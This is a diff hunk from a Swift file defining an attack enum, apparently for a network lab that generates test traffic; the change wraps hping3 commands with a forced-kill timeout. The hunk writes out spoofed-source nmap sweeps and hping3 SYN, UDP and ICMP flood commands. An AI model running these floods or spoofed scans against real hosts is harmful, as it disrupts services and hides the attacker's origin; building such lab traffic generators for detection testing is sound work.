@@ -115,11 +115,11 @@ public enum Attack: String, CaseIterable, Sendable {
         case .pingSweep:
             return ["nmap", "-sn", "-n", "--send-ip", "-S", a, "-e", lab.clientInterface, "-T4", "--max-retries", "0", lab.sweepRange]
         case .synFlood:
-            return ["timeout", "10", "hping3", "-S", "-p", "80", "-a", a, "-c", "30000", "-i", "u100", "-q", lab.server]
+            return ["timeout", "-k", "2", "10", "hping3", "-S", "-p", "80", "-a", a, "-c", "30000", "-i", "u100", "-q", lab.server]
         case .udpFlood:
-            return ["timeout", "10", "hping3", "--udp", "-p", "53", "-a", a, "-d", "512", "-c", "30000", "-i", "u100", "-q", lab.server]
+            return ["timeout", "-k", "2", "10", "hping3", "--udp", "-p", "53", "-a", a, "-d", "512", "-c", "30000", "-i", "u100", "-q", lab.server]
         case .icmpFlood:
-            return ["timeout", "10", "hping3", "--icmp", "-a", a, "-d", "512", "-c", "30000", "-i", "u100", "-q", lab.server]
+            return ["timeout", "-k", "2", "10", "hping3", "--icmp", "-a", a, "-d", "512", "-c", "30000", "-i", "u100", "-q", lab.server]
         case .slowConnections:
             return ["python3", "-c", Scripts.slowConnections(source: a, server: lab.server, count: 150, seconds: 20)]
         case .beaconing:
